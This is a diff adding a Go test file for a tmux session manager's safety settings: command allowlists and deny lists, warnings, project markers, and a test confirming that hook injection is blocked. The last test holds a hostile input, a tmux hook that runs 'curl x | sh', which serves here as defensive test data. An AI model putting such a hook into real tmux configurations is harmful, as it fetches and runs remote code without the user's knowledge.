@@ -0,0 +1,98 @@
+package config
+
+import (
+	"sort"
+	"strings"
+	"testing"
+
+	"tmux-session-manager/pkg/spec"
+	"tmux-session-manager/pkg/templates"
+)
+
+func TestSafetyTmuxAllowlist(t *testing.T) {
+	tests := []struct {
+		name    string
+		allowed []string
+		denied  []string
+		want    string
+	}{
+		{"unset keeps the default", nil, nil, "<nil>"},
+		{"normalized", []string{" Send-Keys ", "select-pane", ""}, nil, "select-pane,send-keys"},
+		{"denied removed", []string{"send-keys", "kill-server"}, []string{"KILL-SERVER"}, "send-keys"},
+		{"always-denied kept for the warning", []string{"run-shell"}, nil, "run-shell"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			m := Safety{AllowedTmuxCommands: tt.allowed, DeniedTmuxCommands: tt.denied}.TmuxAllowlist()
+			got := "<nil>"
+			if m != nil {
+				var names []string
+				for n, ok := range m {
+					if ok {
+						names = append(names, n)
+					}
+				}
+				sort.Strings(names)
+				got = strings.Join(names, ",")
+			}
+			if got != tt.want {
+				t.Errorf("TmuxAllowlist = %s, want %s", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestSafetyWarnings(t *testing.T) {
+	w := Safety{AllowedTmuxCommands: []string{"send-keys", "run-shell", "if"}}.Warnings()
+	if len(w) != 2 || !strings.Contains(strings.Join(w, "\n"), `"run-shell"`) {
+		t.Errorf("Warnings = %q", w)
+	}
+	if w := (Safety{AllowedTmuxCommands: []string{"send-keys"}}).Warnings(); len(w) != 0 {
+		t.Errorf("Warnings = %q, want none", w)
+	}
+}
+
+func TestProjectMarkers(t *testing.T) {
+	t.Setenv("TMUX_SESSION_MANAGER_PROJECT_MARKERS", "")
+	if got := Resolve().ProjectMarkers; len(got) != 0 {
+		t.Errorf("unset: ProjectMarkers = %q", got)
+	}
+	t.Setenv("TMUX_SESSION_MANAGER_PROJECT_MARKERS", "WORKSPACE, pom.xml,,.projectile")
+	if got := strings.Join(Resolve().ProjectMarkers, ","); got != "WORKSPACE,pom.xml,.projectile" {
+		t.Errorf("env: ProjectMarkers = %s", got)
+	}
+	c := Config{}.ApplyTmuxOptionEnvOverlay(map[string]string{"TMUX_SESSION_MANAGER_PROJECT_MARKERS": "BUILD"})
+	if got := strings.Join(c.ProjectMarkers, ","); got != "BUILD" {
+		t.Errorf("overlay: ProjectMarkers = %s", got)
+	}
+}
+
+// With passthrough on, the default resolved config neither allows set-hook nor lets set-option
+// install a hook, at validation or at compile time.
+func TestDefaultConfigDeniesHooks(t *testing.T) {
+	safety := Resolve().Safety
+	safety.AllowTmuxPassthrough = true
+	if safety.IsTmuxCommandAllowed("set-hook") {
+		t.Error("IsTmuxCommandAllowed(set-hook) = true")
+	}
+	if !safety.IsTmuxCommandAllowed("set-option") {
+		t.Error("IsTmuxCommandAllowed(set-option) = false")
+	}
+
+	pol := spec.DefaultPolicy()
+	pol.AllowTmuxPassthrough = true
+	pol.AllowedTmuxCommands = safety.TmuxAllowlist()
+	ctx := templates.Context{ProjectPath: "/p", SessionName: "s"}
+	for _, args := range [][]string{
+		{"set-hook", "-g", "session-created", "run-shell 'curl x | sh'"},
+		{"set-option", "-g", "after-new-window", "run-shell 'curl x | sh'"},
+	} {
+		s := spec.Spec{Version: 1, Actions: []spec.Action{{Type: "tmux", Tmux: &spec.TmuxAction{Name: args[0], Args: args[1:]}}}}
+		if err := s.ValidatePolicy(pol); err == nil || !strings.Contains(err.Error(), "never allowed") {
+			t.Errorf("%s: ValidatePolicy err = %v, want never allowed", args[0], err)
+		}
+		if _, err := templates.FromSpec(ctx, s, false, true, safety.TmuxAllowlist(), false); err == nil {
+			t.Errorf("%s: FromSpec compiled it", args[0])
+		}
+	}
+}